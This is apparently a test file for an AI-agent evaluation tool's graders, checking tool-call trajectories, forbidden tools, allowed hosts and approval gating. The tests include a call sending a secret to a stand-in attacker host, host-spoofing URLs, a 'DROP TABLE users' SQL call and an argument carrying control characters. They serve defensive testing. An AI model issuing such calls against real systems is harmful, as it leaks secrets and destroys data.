import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { LoadedCase } from '../config/load.js';
import type { ToolCall } from '../results/types.js';
import { urlsIn } from './agent.js';
import { compileGrader } from './index.js';
import { GraderSpecSchema, normalizeGraderInput } from './spec.js';
import { tempDir } from '../../test/helpers/tmp.js';

const baseDir = tempDir('evalgate-agent-');

function compile(raw: unknown) {
  return compileGrader(GraderSpecSchema.parse(normalizeGraderInput(raw)), { baseDir });
}

function grade(raw: unknown, toolCalls: ToolCall[], expected?: unknown) {
  const grader = compile(raw);
  const c = {
    id: 'c1',
    suite: 's',
    vars: {},
    tags: {},
    blocker: false,
    repeat: 1,
    graders: [grader],
    location: { file: 'x', line: 1 },
    ...(expected !== undefined && { expected }),
  } as LoadedCase;
  return grader.grade({ case: c, output: { output: 'done', toolCalls }, latencyMs: 1 });
}

const call = (name: string, args: unknown = {}, extra: Partial<ToolCall> = {}): ToolCall => ({
  name,
  arguments: args,
  ...extra,
});

const trace = [
  call('search', { query: 'refund policy', limit: 5 }),
  call('fetch', { id: 'doc-7' }),
  call('answer', { text: 'Within 30 days.', sources: ['doc-7'] }),
];

describe('trajectory', () => {
  it('subset (default): the expected arguments are among the actual ones, recursively', async () => {
    const spec = {
      type: 'trajectory',
      calls: [{ name: 'search', arguments: { query: 'refund policy' } }, { name: 'answer' }],
    };
    expect(await grade(spec, trace)).toMatchObject({
      pass: true,
      score: 1,
      reason: 'all 2 expected calls made',
    });
    expect(
      await grade(
        { type: 'trajectory', calls: [{ name: 'search', arguments: { query: 'refunds' } }] },
        trace,
      ),
    ).toMatchObject({
      pass: false,
      score: 0,
      reason:
        'search called with the wrong arguments (step 1): query: expected "refunds", got "refund policy"',
    });
  });

  it('exact: arguments must be equal, key order aside', async () => {
    const exact = (args: Record<string, unknown>) => ({
      type: 'trajectory',
      match: 'exact',
      calls: [{ name: 'search', arguments: args }],
    });
    expect(await grade(exact({ limit: 5, query: 'refund policy' }), trace)).toMatchObject({ pass: true });
    expect(await grade(exact({ query: 'refund policy' }), trace)).toMatchObject({
      pass: false,
      reason: 'search called with the wrong arguments (step 1): limit: not expected, got 5',
    });
  });

  it('schema: each expected call may give a JSON Schema for its arguments (inline or a file)', async () => {
    writeFileSync(
      join(baseDir, 'fetch.schema.json'),
      JSON.stringify({ type: 'object', required: ['id'], properties: { id: { pattern: '^doc-\\d+$' } } }),
    );
    const spec = {
      type: 'trajectory',
      calls: [
        {
          name: 'search',
          schema: { type: 'object', required: ['query'], properties: { limit: { maximum: 10 } } },
        },
        { name: 'fetch', schema: 'fetch.schema.json' },
      ],
    };
    expect(await grade(spec, trace)).toMatchObject({ pass: true });
    expect(
      await grade(spec, [call('search', { query: 'x', limit: 50 }), call('fetch', { id: 'doc-7' })]),
    ).toMatchObject({
      pass: false,
      score: 0.5,
      reason:
        'search called with the wrong arguments (step 1): arguments fail the schema: /limit must be <= 10',
    });
    expect(() => compile({ type: 'trajectory', calls: [{ name: 'x', schema: 'missing.json' }] })).toThrow(
      /cannot read JSON Schema missing.json: ENOENT/,
    );
  });

  it('a wrong argument is reported as wrong, with the expected and actual values, escaped', async () => {
    // The case: the refund was issued, for the wrong amount. Not "missing issue_refund".
    const refund = [
      call('lookup_order', { order_id: 'A-17' }),
      call('issue_refund', { order_id: 'A-17', amount: 300 }),
    ];
    const spec = {
      type: 'trajectory',
      calls: [
        { name: 'lookup_order' },
        { name: 'issue_refund', arguments: { order_id: 'A-17', amount: 30 } },
      ],
    };
    expect(await grade(spec, refund)).toEqual({
      grader: 'trajectory',
      pass: false,
      score: 0.5,
      reason: 'issue_refund called with the wrong arguments (step 2): amount: expected 30, got 300',
    });
    // Model-written values cannot break the line or carry control characters: shown as JSON.
    const hostile = [call('issue_refund', { order_id: 'A-17\n::error::x\u001b[2J', amount: 30 })];
    const v = await grade(spec, hostile);
    expect(v.reason).toBe(
      'missing or out of order: lookup_order; issue_refund called with the wrong arguments (step 1): order_id: expected "A-17", got "A-17\\n::error::x\\u001b[2J"',
    );
    expect(v.reason.includes('\n') || v.reason.includes('\u001b')).toBe(false);
    // An argument left out, a nested one wrong, and arguments that are not an object.
    expect(
      await grade({ type: 'trajectory', calls: [{ name: 'f', arguments: { a: 1, o: { x: 'y' } } }] }, [
        call('f', { o: { x: 'z' } }),
      ]),
    ).toMatchObject({
      reason:
        'f called with the wrong arguments (step 1): a: expected 1, got nothing, o.x: expected "y", got "z"',
    });
    expect(
      await grade({ type: 'trajectory', calls: [{ name: 'f', arguments: { a: 1 } }] }, [
        call('f', '{"a": 1'),
      ]),
    ).toMatchObject({
      reason: 'f called with the wrong arguments (step 1): arguments: expected an object, got "{\\"a\\": 1"',
    });
    // The closest of two calls of the tool is the one compared.
    expect(
      await grade({ type: 'trajectory', calls: [{ name: 'f', arguments: { a: 1, b: 2 } }] }, [
        call('f', { a: 9, b: 9 }),
        call('f', { a: 1, b: 3 }),
      ]),
    ).toMatchObject({ reason: 'f called with the wrong arguments (step 2): b: expected 2, got 3' });
    // A call with the right arguments in the wrong place is out of order, not wrong (the
    // longest in-order run keeps lookup_order, so issue_refund is the one out of order).
    expect(
      await grade(
        {
          type: 'trajectory',
          calls: [{ name: 'issue_refund', arguments: { amount: 30 } }, { name: 'lookup_order' }],
        },
        [call('lookup_order'), call('issue_refund', { amount: 30 })],
      ),
    ).toMatchObject({ reason: 'missing or out of order: issue_refund' });
  });

  it('order strict vs any: the score counts the longest run of expected calls in order', async () => {
    const calls = [{ name: 'answer' }, { name: 'search' }, { name: 'fetch' }];
    // In order, at most search, fetch (2 of 3) fit the trace search, fetch, answer.
    expect(await grade({ type: 'trajectory', calls }, trace)).toMatchObject({
      pass: false,
      score: 2 / 3,
      reason: 'missing or out of order: answer',
    });
    expect(await grade({ type: 'trajectory', order: 'any', calls }, trace)).toMatchObject({
      pass: true,
      score: 1,
    });
  });

  it('any order pairs calls optimally, so a loose expectation does not take a strict one’s only match', async () => {
    const calls = [{ name: 'search' }, { name: 'search', arguments: { query: 'a' } }];
    const steps = [call('search', { query: 'a' }), call('search', { query: 'b' })];
    expect(await grade({ type: 'trajectory', order: 'any', calls }, steps)).toMatchObject({ pass: true });
  });

  it('extraCalls forbid and the maxCalls budget', async () => {
    const calls = [{ name: 'search' }, { name: 'answer' }];
    expect(await grade({ type: 'trajectory', extraCalls: 'forbid', calls }, trace)).toMatchObject({
      pass: false,
      // 2 matched over max(2 expected, 3 steps).
      score: 2 / 3,
      reason: 'unexpected: fetch',
    });
    expect(await grade({ type: 'trajectory', maxCalls: 2, calls }, trace)).toMatchObject({
      pass: false,
      // All matched, scaled by budget 2 / 3 steps.
      score: 2 / 3,
      reason: '3 calls > budget 2',
    });
    expect(await grade({ type: 'trajectory', maxCalls: 3, calls }, trace)).toMatchObject({
      pass: true,
      reason: 'all 2 expected calls made in 3 ≤ 3 steps',
    });
  });

  it('calls: [] means no tool calls; calls left out come from the case', async () => {
    expect(await grade({ type: 'trajectory', calls: [] }, [])).toMatchObject({ pass: true });
    expect(await grade({ type: 'trajectory', calls: [] }, trace)).toMatchObject({ pass: false, score: 0 });
    const fromCase = compile({ type: 'trajectory' });
    expect(fromCase.requiresExpected).toBe(true);
    expect(
      await grade({ type: 'trajectory' }, trace, [{ name: 'fetch', arguments: { id: 'doc-7' } }]),
    ).toMatchObject({ pass: true });
    expect(await grade({ type: 'trajectory' }, trace, 'fetch')).toMatchObject({ error: true });
  });
});

describe('tool-boundaries', () => {
  it('forbidden tools and forbidden argument patterns', async () => {
    const steps = [
      call('search', { q: 'x' }),
      call('delete_user', { id: 7 }),
      call('run_sql', { sql: 'DROP TABLE users' }),
    ];
    expect(await grade({ type: 'tool-boundaries', forbiddenTools: ['delete_user'] }, steps)).toMatchObject({
      pass: false,
      score: 2 / 3,
      reason: 'step 2 calls forbidden tool delete_user',
    });
    expect(await grade({ type: 'tool-boundaries', forbiddenArgs: ['drop\\s+table'] }, steps)).toMatchObject({
      pass: false,
      reason: 'step 3 run_sql has arguments matching /drop\\s+table/',
    });
    // An object pattern takes its own flags: this one is case-sensitive.
    expect(
      await grade({ type: 'tool-boundaries', forbiddenArgs: [{ pattern: 'drop table' }] }, steps),
    ).toMatchObject({ pass: true, reason: '3 tool calls within bounds' });
    expect(() => compile({ type: 'tool-boundaries', forbiddenArgs: ['('] })).toThrow(
      /invalid forbiddenArgs regex/,
    );
  });

  it('allowedHosts: any URL elsewhere fails, however it is dressed up', async () => {
    const spec = { type: 'tool-boundaries', allowedHosts: ['api.example.com', '*.docs.example.com'] };
    const ok = [
      call('http_get', { url: 'https://api.example.com/v1/orders?id=1' }),
      call('http_get', { url: 'https://eu.docs.example.com/page' }),
      call('note', { text: 'no links here' }),
    ];
    expect(await grade(spec, ok)).toMatchObject({ pass: true });
    for (const url of [
      'https://attacker.example.net/collect?d=secret',
      'http://api.example.com.evil.io/x',
      'https://api.example.com@evil.io/x',
      'HTTPS://EVIL.IO/x',
    ]) {
      const v = await grade(spec, [call('http_get', { request: { headers: {}, target: [url] } })]);
      expect(v, url).toMatchObject({ pass: false, reason: expect.stringMatching(/not an allowed host/) });
    }
    expect(await grade({ type: 'tool-boundaries', allowedHosts: [] }, ok.slice(0, 1))).toMatchObject({
      pass: false,
    });
    expect(urlsIn({ a: ['see https://x.io/a, and http://y.io'] })).toEqual(['https://x.io/a', 'http://y.io']);
  });

  it('requiresApproval: each gated call needs its own earlier approval naming it', async () => {
    const spec = { type: 'tool-boundaries', requiresApproval: ['refund', 'delete_user'] };
    expect(
      await grade(spec, [
        call('request_approval', { tool: 'refund', amount: 20 }),
        call('refund', { amount: 20 }),
      ]),
    ).toMatchObject({ pass: true });
    expect(
      await grade(spec, [call('refund', { amount: 20 }), call('request_approval', { tool: 'refund' })]),
    ).toMatchObject({
      pass: false,
      reason: 'step 1 calls refund without an earlier request_approval for it',
    });
    // One approval, one action; an approval for another tool does not count.
    expect(
      await grade(spec, [
        call('request_approval', { tool: 'refund' }),
        call('refund', {}),
        call('refund', {}),
        call('request_approval', { tool: 'refund' }),
        call('delete_user', {}),
      ]),
    ).toMatchObject({ pass: false, score: 3 / 5 });
    // An approval step that failed approves nothing.
    expect(
      await grade(spec, [
        call('request_approval', { tool: 'refund' }, { error: 'denied' }),
        call('refund', {}),
      ]),
    ).toMatchObject({ pass: false });
    expect(
      await grade({ ...spec, approvalMatch: 'any', approvalTool: 'ask_human' }, [
        call('ask_human', {}),
        call('refund', {}),
      ]),
    ).toMatchObject({ pass: true });
  });
});

describe('step-success', () => {
  it('the fraction of steps that did not error, against min', async () => {
    const steps = [
      call('search', {}, { result: { hits: 3 } }),
      call('fetch', {}, { error: 'timeout' }),
      call('fetch', {}, { result: { isError: true, content: [] } }),
      call('answer', {}),
    ];
    expect(await grade({ type: 'step-success', min: 0.5 }, steps)).toMatchObject({
      pass: true,
      score: 0.5,
      reason: '2/4 steps succeeded ≥ min 0.5; failed: fetch (step 2), fetch (step 3)',
    });
    expect(await grade({ type: 'step-success' }, steps)).toMatchObject({ pass: false, score: 0.5 });
    const withStatus = { name: 'x', arguments: {}, status: 'error' } as ToolCall;
    expect(await grade({ type: 'step-success' }, [withStatus, call('y')])).toMatchObject({ score: 0.5 });
    expect(await grade({ type: 'step-success' }, [])).toMatchObject({ pass: true, score: 1 });
  });
});
